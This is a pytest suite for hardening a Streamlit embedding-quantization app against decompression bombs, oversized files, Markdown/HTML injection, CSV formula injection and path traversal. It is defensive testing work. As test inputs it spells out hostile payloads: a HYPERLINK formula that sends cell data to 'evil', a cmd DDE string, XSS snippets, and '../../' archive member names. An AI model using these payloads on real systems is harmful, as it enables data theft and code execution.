"""Issue 16, "Hardening": tiny files that take the server down, untrusted text, and a server
open to the network. Each test below failed on the code before the fix.

The hostile files themselves are in the fuzz corpus (tests/malformed.py: every one must end in a
DataError, through the loader and through the home page's uploader); here are the properties that
the corpus alone does not show: that a refusal comes before the expensive work (pandas, decoding,
allocation), that work is one vectorised pass, that a message says the real reason, that text is
escaped wherever it is shown or exported, and the server's defaults. The real-server checks (an
upload released once read, memory after sessions close, no fetch of a Markdown image) are in
tests/test_server.py.
"""

import gc
import io
import re
import tomllib
import tracemalloc
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from apptest_helpers import npy_bytes, ok
from streamlit.testing.v1 import AppTest

import vqcore.inspect as inspect_mod
from ui import cache, store
from ui import data as D
from ui import state as S
from ui.text import md, plotly_text
from vqcore.csvfile import csv_bytes, safe_cell
from vqcore.datasets import make_gaussian
from vqcore.exceptions import DataError
from vqcore.inspect import count_duplicate_rows, data_summary
from vqcore.io import MAX_CSV_COLUMNS, MAX_CSV_ROW_BYTES, load_codes, load_embeddings
from vqcore.report import report_to_csv
from vqcore.semantic_ids import export_codes

try:
    from malformed import dictionary_bomb_parquet, many_short_rows_npz
except ImportError:  # tests/ imported as a package
    from tests.malformed import dictionary_bomb_parquet, many_short_rows_npz

ROOT = Path(__file__).resolve().parents[1]
APP = str(ROOT / "app.py")
SID_PAGE = str(ROOT / "pages" / "6_Semantic_IDs.py")
TIMEOUT = 120
MIME = "application/octet-stream"


def peak_allocation(fn):
    """Peak bytes allocated (Python and numpy, as tracemalloc sees them) while fn runs."""
    tracemalloc.start()
    try:
        tracemalloc.reset_peak()
        fn()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.fixture
def no_pandas_parsing(monkeypatch):
    """pandas.read_csv fails the test if it is called."""
    def refuse(*args, **kwargs):
        raise AssertionError("pandas.read_csv was called")

    monkeypatch.setattr(pd, "read_csv", refuse)


# ---------------------------------------------------------------- 1. wide CSV

@pytest.mark.parametrize("data, words", [
    ((",".join(["1"] * 1_000_000) + "\n").encode() * 2, ["1,000,000 columns", f"{MAX_CSV_COLUMNS:,} columns"]),
    ((",".join(["1"] * (MAX_CSV_COLUMNS + 1)) + "\n").encode() * 2, [f"{MAX_CSV_COLUMNS + 1:,} columns"]),
    (b"1" * (50 * 2**20), ["row 1", f"limit of {MAX_CSV_ROW_BYTES // 2**20}.0 MiB"]),
    (b"1,2\n" + b"3" * (5 * 2**20) + b",4\n", ["row 2", "5.0 MiB"]),
], ids=["million-columns", "one-column-too-many", "50MB-single-line", "long-second-line"])
def test_wide_or_long_csv_refused_before_pandas_reads_it(data, words, no_pandas_parsing):
    with pytest.raises(DataError) as info:
        load_embeddings(data, "wide.csv")
    for w in words:
        assert w in str(info.value)


def test_csv_columns_are_classified_in_one_pass(monkeypatch):
    """2,000 text columns and 2,000 number columns: a constant number of pandas parses, not one per column."""
    calls = []
    original = pd.to_numeric
    monkeypatch.setattr(pd, "to_numeric", lambda *a, **k: calls.append(1) or original(*a, **k))
    rng = np.random.default_rng(0)
    X = rng.integers(-50, 50, (5, 2000)) / 4
    header = ",".join([f"t{j}" for j in range(2000)] + [f"x{j}" for j in range(2000)])
    rows = [",".join([f"w{i}{j}" for j in range(2000)] + [repr(float(v)) for v in r]) for i, r in enumerate(X)]
    loaded = load_embeddings((header + "\n" + "\n".join(rows) + "\n").encode(), "mixed.csv")
    np.testing.assert_array_equal(loaded.X, X.astype(np.float32))
    assert len(calls) <= 4, len(calls)
    assert any("Ignored 2000 text columns" in n for n in loaded.notes)


# ---------------------------------------------------------------- 3. memory amplification

def test_parquet_dictionary_bomb_refused_from_its_metadata_on_the_decoded_size():
    data = dictionary_bomb_parquet(True)
    assert len(data) < 20_000  # a few KB on disk
    holder = {}

    def load():
        with pytest.raises(DataError) as info:
            load_embeddings(data, "bomb.parquet")
        holder["message"] = str(info.value)

    assert peak_allocation(load) < 5 * 2**20  # refused before any page is decoded
    assert "decodes to 381.5 MiB" in holder["message"] and "200.0 MiB" in holder["message"]


def test_parquet_list_column_read_straight_into_float32():
    """No float64 on the way: stacking a float32 list column allocates about the array itself
    (it went through float64 values, a float64 array and a float64 fancy-indexed copy: 6x)."""
    from vqcore.io.limits import Caps as _Caps
    from vqcore.io.parquet import _stack_list_column

    X = np.random.default_rng(0).standard_normal((3000, 256)).astype(np.float32)
    col = pa.ListArray.from_arrays(pa.array(np.arange(0, X.size + 1, 256, dtype=np.int32)), pa.array(X.ravel()))
    col = pa.concat_arrays([col, pa.array([None], col.type)])  # a null row: the path that filled a float64 array
    out = {}
    peak = peak_allocation(lambda: out.setdefault("arr", _stack_list_column(col, "emb", _Caps(2**30, 2**28),
                                                                             "x.parquet", [])))
    assert out["arr"].dtype == np.float32 and np.isnan(out["arr"][-1]).all()
    np.testing.assert_array_equal(out["arr"][:-1], X)
    assert peak < 1.5 * X.nbytes, peak / X.nbytes


def test_many_short_rows_refused_from_the_npz_header_before_decompressing():
    data = many_short_rows_npz()
    assert len(data) < 200_000
    holder = {}

    def load():
        with pytest.raises(DataError) as info:
            load_embeddings(data, "bomb.npz")
        holder["message"] = str(info.value)

    assert peak_allocation(load) < 5 * 2**20
    assert "52,428,800 rows of 1 value(s)" in holder["message"] and "3 x max_bytes" in holder["message"]


# ---------------------------------------------------------------- 4. duplicate rows in linear time

def test_duplicates_never_use_np_unique_on_rows(monkeypatch):
    """A million identical rows took 49 s in np.unique(axis=0); the count hashes rows instead."""
    original = np.unique

    def no_row_unique(*args, **kwargs):
        assert kwargs.get("axis") is None, "np.unique(axis=...) compares whole rows in its sort"
        return original(*args, **kwargs)

    monkeypatch.setattr(np, "unique", no_row_unique)
    X = np.zeros((200_000, 50), np.uint8)
    assert count_duplicate_rows(X) == 199_999
    assert data_summary(np.zeros((5000, 8), np.float32))["duplicates"] == 4999
    loaded = load_embeddings(npy_bytes(np.zeros((200_000, 50), np.uint8)), "zeros.npy")
    assert any("All 200000 rows are identical" in n for n in loaded.notes)


@pytest.mark.parametrize("seed", range(5))
def test_duplicate_count_exact_when_hashes_collide(monkeypatch, seed):
    """Runs of equal hashes holding different rows are counted exactly (hashes forced into 3 values)."""
    original = inspect_mod._row_hashes
    monkeypatch.setattr(inspect_mod, "_row_hashes", lambda X: original(X) % np.uint64(3))
    X = np.random.default_rng(seed).integers(0, 3, (400, 3)).astype(np.float32)
    X[::7] = -0.0  # -0.0 and 0.0 are equal
    expected = len(X) - len({tuple(r) for r in (X + 0.0).tolist()})
    assert count_duplicate_rows(X) == expected


# ---------------------------------------------------------------- 5. / 6. what a file really holds

def test_semicolon_csv_with_decimal_commas_loads_the_right_numbers():
    loaded = load_embeddings(b"-0,1234;1,2345;0,5678;-1,0000\n", "eu.csv")
    np.testing.assert_array_equal(loaded.X, np.array([[-0.1234, 1.2345, 0.5678, -1.0]], np.float32))
    assert loaded.notes[0] == "Read as separated by ';' with decimal commas (0,5 = one half)."


def test_parquet_int64_above_2_53_kept_exact_as_codes():
    buf = io.BytesIO()
    pq.write_table(pa.table({"level0": pa.array([3, 2**60 + 1]), "level1": pa.array([0, 1])}), buf)
    loaded = load_codes(buf.getvalue(), "ids.parquet")
    assert loaded.codes[1, 0] == 2**60 + 1 and loaded.codes.dtype == np.uint64
    assert any("look like item ids" in n for n in loaded.notes)


def test_parquet_duplicate_column_names_said_and_the_others_loaded():
    buf = io.BytesIO()
    pq.write_table(pa.Table.from_arrays([pa.array([1.0, 2.0]), pa.array([3.0, 4.0]), pa.array([5.0, 6.0])],
                                        names=["x", "x", "y"]), buf)
    loaded = load_embeddings(buf.getvalue(), "dup.parquet")
    np.testing.assert_array_equal(loaded.X, [[5], [6]])
    assert any("columns named 'x'" in n and "Rename" in n for n in loaded.notes)


# ---------------------------------------------------------------- 7. untrusted text

def _unescaped(text, chars="[]()!<>`*_$:|"):
    """Characters of ``chars`` not preceded by a backslash escape."""
    out, i = [], 0
    while i < len(text):
        if text[i] == "\\":
            i += 2
            continue
        if text[i] in chars:
            out.append(text[i])
        i += 1
    return out


@pytest.mark.parametrize("name", ["![b](http://127.0.0.1:8999/x.png)", "[click](javascript:alert(1))",
                                  "<img src=x onerror=alert(1)>", ":red[**loud**] $x^2$", "# 1. - `code` | a |",
                                  "line\nbreak ![i](http://h/i.png)"])
def test_markdown_escape_leaves_no_markup(name):
    shown = md(name)
    assert not _unescaped(shown), shown
    assert "\n" not in shown
    assert re.sub(r"\\(.)", r"\1", shown) == name.replace("\n", " ")  # the same characters once unescaped


def test_plotly_labels_are_text():
    assert "<" not in plotly_text('<a href="http://x">x</a>') and "&amp;" in plotly_text("&")


def test_home_page_shows_hostile_names_escaped():
    name = "![b](http://127.0.0.1:8999/x.png).csv"
    header = "![b](http://127.0.0.1:8999/y.png),[c](http://127.0.0.1:8999/z)"
    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    S.init(at.session_state)
    S.set_data(at.session_state, np.eye(4, dtype=np.float32), name="start")
    ok(at.run())
    at.file_uploader(key=S.HOME_UPLOAD).set_value((name, f"{header}\n1,2\n3,4\n".encode(), MIME))
    ok(at.run())
    assert at.session_state[S.DATA].shape == (2, 2)
    shown = [e.value for kind in ("markdown", "caption", "success", "error", "subheader") for e in at.get(kind)]
    assert any("x.png" in t for t in shown)
    for text in shown:
        assert "](http" not in text.replace("\\]\\(http", ""), text  # no live link or image
        assert "![" not in text.replace("\\!\\[", ""), text


# ---------------------------------------------------------------- 8. formula injection in CSV exports

HOSTILE = ['=HYPERLINK("http://evil/?x="&A1,"click")', "@SUM(A1)", "+1+1", "-2+3", "\tx", "\r=1", "\n=1", "plain"]


def test_dedup_csv_neutralises_formula_labels_and_keeps_numbers():
    codes = np.array([[0, 1], [0, 1], [2, 3], [1, 0], [0, 0], [3, 3], [1, 1], [2, 2]])
    import csv

    text = export_codes(codes, labels=HOSTILE).decode()
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["level_0", "level_1", "label"]
    assert [r[2] for r in rows[1:]] == ["'" + h for h in HOSTILE[:-1]] + ["plain"]
    np.testing.assert_array_equal([[int(v) for v in r[:2]] for r in rows[1:]], codes)


def test_csv_writer_neutralises_text_only():
    data = csv_bytes([[-1.5, np.float32(-2.0), -3, np.int64(-4), "-5", "=A1"]], header=["x", "=y", "a", "b", "c", "d"])
    assert data.decode() == "x,'=y,a,b,c,d\n-1.5,-2.0,-3,-4,'-5,'=A1\n"
    assert safe_cell(None) is None and safe_cell(True) is True


def test_every_csv_download_goes_through_the_writer():
    table = pd.DataFrame({"method": ["=cmd|' /C calc'!A0", "RQ"], "mse": [-0.5, 0.25]})
    assert D.table_csv(table).decode() == "method,mse\n'=cmd|' /C calc'!A0,-0.5\nRQ,0.25\n"
    report = {"spec": "@spec", "faiss": None, "method": "RQ", "n": 3, "d": 2, "n_codebooks": 1, "codebook_size": 2,
              "bits_per_vector": 1, "compression_ratio": 64.0, "fit_seconds": 0.1, "effective_bits": 1.0,
              "allocated_bits": 1.0, "reconstruction": {"mse": 0.5, "relative": 0.5, "snr_db": -3.0},
              "usage": {k: [0.0] for k in ("dead", "dead_fraction", "entropy_bits", "max_entropy_bits",
                                           "perplexity", "utilisation")},
              "residual_variance": {"kind": "stage", "values": [1.0]},
              "collisions": {"rate": 0.0, "prefix_rates": [0.0]}, "recall": None}
    text = report_to_csv(report)
    assert "spec,,'@spec\n" in text and "snr_db,,-3.0\n" in text and "faiss,,None\n" in text
    for path in ROOT.glob("pages/*.py"):
        assert ".to_csv(" not in path.read_text(), path  # pandas' writer does not neutralise


# ---------------------------------------------------------------- 2. huge code values

def sid_upload(at, name, payload, K=None):
    ok(at.run())
    at.radio(key="sid_source").set_value("upload")
    ok(at.run())
    if K is not None:
        at.number_input(key="sid_K").set_value(K)
    at.file_uploader(key="sid_upload").upload(name, payload)
    return ok(at.run())


@pytest.mark.parametrize("codes, K, words", [
    (np.array([[1, 2], [3, 10**9]]), None, ["Level 1 holds the code 1,000,000,000", "65,536"]),
    (np.array([[0], [2**26 - 1]]), None, ["K would be 67,108,864", "65,536"]),
])
def test_codes_too_large_for_the_page_are_refused_and_the_page_keeps_working(codes, K, words):
    at = AppTest.from_file(SID_PAGE, default_timeout=TIMEOUT)
    S.seed(at.session_state, make_gaussian(50, 4, random_state=0))
    good = np.random.default_rng(0).integers(0, 16, (50, 3))
    sid_upload(at, "good.npy", npy_bytes(good))
    assert at.session_state[S.SID_CODES]["codebook_size"] == 16
    at.file_uploader(key="sid_upload").upload("huge.npy", npy_bytes(codes))
    ok(at.run())
    assert len(at.error) == 1 and all(md(w) in at.error[0].value for w in words)
    np.testing.assert_array_equal(at.session_state[S.SID_CODES]["codes"], good)  # the last good set stays
    assert at.get("plotly_chart")
    ok(at.run())  # and every rerun works
    assert at.session_state[S.SID_CODES]["codebook_size"] == 16


def test_typed_codebook_size_bounded():
    with pytest.raises(DataError, match="K = 2,147,483,647 is above the 65,536"):
        D.code_set(np.array([[0, 1], [1, 0]]), 2**31 - 1)
    at = AppTest.from_file(SID_PAGE, default_timeout=TIMEOUT)
    S.seed(at.session_state, make_gaussian(50, 4, random_state=0))
    ok(at.run())
    at.radio(key="sid_source").set_value("upload")
    ok(at.run())
    assert at.number_input(key="sid_K").max == D.SID_MAX_K


def test_a_code_set_that_fails_gives_way_to_the_last_good_one(monkeypatch):
    good = D.code_set(np.array([[0, 1], [1, 0], [1, 1]]), 2, name="good")
    bad = D.code_set(np.array([[0, 1], [1, 1], [0, 0]]), 2, name="bad")
    original = cache.sid_overview

    def failing(key, *args):
        if key == bad["key"]:
            raise DataError("cannot count these")
        return original(key, *args)

    monkeypatch.setattr(cache, "sid_overview", failing)
    state = {S.SID_CODES: good}
    assert cache.sid_checked(state, S.SID_CODES)[0] is good
    state[S.SID_CODES] = bad
    cs, overview, problem = cache.sid_checked(state, S.SID_CODES)
    assert cs is good and state[S.SID_CODES] is good and overview["distinct"] == 3
    assert problem == "bad could not be shown: cannot count these"
    assert cache.sid_checked(state, S.SID_CODES) [2] is None  # the next rerun shows the good set, no error


# ---------------------------------------------------------------- 9. deployment defaults

def test_server_listens_on_this_machine_only_and_forgets_closed_tabs_soon():
    cfg = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert cfg["server"]["address"] == "127.0.0.1"
    assert cfg["server"]["enableXsrfProtection"] is True
    assert cfg["server"]["disconnectedSessionTTL"] <= 60  # Streamlit's default keeps them 120 s
    readme = (ROOT / "README.md").read_text()
    assert "--server.address 0.0.0.0" in readme and "127.0.0.1" in readme


def test_server_caps_the_data_it_holds_for_all_sessions(monkeypatch):
    X = np.random.default_rng(0).standard_normal((2000, 64)).astype(np.float32)  # 500 KiB
    gc.collect()
    baseline = S.held_bytes()  # what sessions of earlier tests may still hold
    monkeypatch.setattr(D, "MAX_HELD_MB", (baseline + 1.5 * X.nbytes) / 2**20)
    sessions = []
    for i in range(2):
        at = AppTest.from_file(APP, default_timeout=TIMEOUT)
        S.init(at.session_state)
        S.set_data(at.session_state, np.eye(2, dtype=np.float32), name="start")
        ok(at.run())
        at.file_uploader(key=S.HOME_UPLOAD).set_value((f"x{i}.npy", npy_bytes(X + i), MIME))
        ok(at.run())
        sessions.append(at)
    first, second = sessions
    assert first.session_state[S.DATA].name == "x0.npy" and not first.error
    assert second.session_state[S.DATA].name == "start"  # refused: the first session holds its data
    assert len(second.error) == 1 and md("(VQLENS_MAX_HELD_MB)") in second.error[0].value
    assert "this server already holds" in second.error[0].value
    del first, sessions, at
    gc.collect()  # the first session ends: its data is released
    second.file_uploader(key=S.HOME_UPLOAD).set_value(("x1b.npy", npy_bytes(X + 2), MIME))
    ok(second.run())
    assert second.session_state[S.DATA].name == "x1b.npy" and not second.error


@pytest.fixture
def fits(monkeypatch):
    from vqcore import ProductQuantizer

    calls = []
    original = ProductQuantizer.fit
    monkeypatch.setattr(ProductQuantizer, "fit", lambda self, X, *a, **k: calls.append(1) or original(self, X, *a, **k))
    return calls


def test_a_fit_whose_browser_went_away_stops_and_keeps_nothing(monkeypatch, fits):
    from streamlit.runtime.scriptrunner_utils.exceptions import StopException

    X = np.random.default_rng(0).standard_normal((600, 8)).astype(np.float32)
    args = ("k-gone", "PQ2x4", (("n_iter", 5),), 300, 0)  # PQ reports no stages: checked as it starts
    reports = []
    monkeypatch.setattr(store, "_browser_connected", lambda: False)
    with pytest.raises(StopException):
        cache.fit(*args, X, on_progress=lambda f, m: reports.append(f))
    assert reports == [] and fits == []  # stopped before it began, before drawing anything
    with pytest.raises(store.Miss):
        cache._finished_fit(*args)  # nothing kept
    # another run waiting for the same fit keeps it going, and it is kept for that run
    store._WAITING[args] = 1
    try:
        f = cache.fit(*args, X)
    finally:
        del store._WAITING[args]
    assert f["quantizer"].codebooks_ is not None and len(fits) == 1
    monkeypatch.setattr(store, "_browser_connected", lambda: True)
    assert cache.fit(*args, X)["quantizer"].spec() == "PQ2x4" and len(fits) == 1  # cached


def test_an_rq_fit_whose_browser_goes_away_stops_at_its_next_stage(monkeypatch):
    from streamlit.runtime.scriptrunner_utils.exceptions import StopException

    X = np.random.default_rng(1).standard_normal((800, 8)).astype(np.float32)
    seen = []
    monkeypatch.setattr(store, "_browser_connected", lambda: len(seen) < 2)  # gone after two reports
    with pytest.raises(StopException):
        cache.fit("k-gone-rq", "RQ6x4", (("n_iter", 3),), 800, 0, X, on_progress=lambda f, m: seen.append(m))
    assert len(seen) == 2  # the stages after it were never fitted


def test_npz_member_names_are_keys_never_paths(tmp_path, monkeypatch):
    """Measured fine in issue 16, kept as a test: members named like paths are read in memory,
    never extracted, and their names are shown escaped."""
    try:
        from malformed import zip_bytes
    except ImportError:
        from tests.malformed import zip_bytes
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    X = np.arange(6, dtype=np.float32).reshape(3, 2)
    data = zip_bytes([("../../escaped.npy", npy_bytes(X)), ("![i](http://h/i.png).npy", npy_bytes(X[:2]))])
    loaded = load_embeddings(data, "t.npz", array_key="../../escaped")
    np.testing.assert_array_equal(loaded.X, X)
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["a", "b"]
    assert "![i](http://h/i.png)" in " ".join(loaded.notes) + str(loaded.array_keys)
    assert "](" not in md(str(loaded.array_keys)).replace("\\](", "")
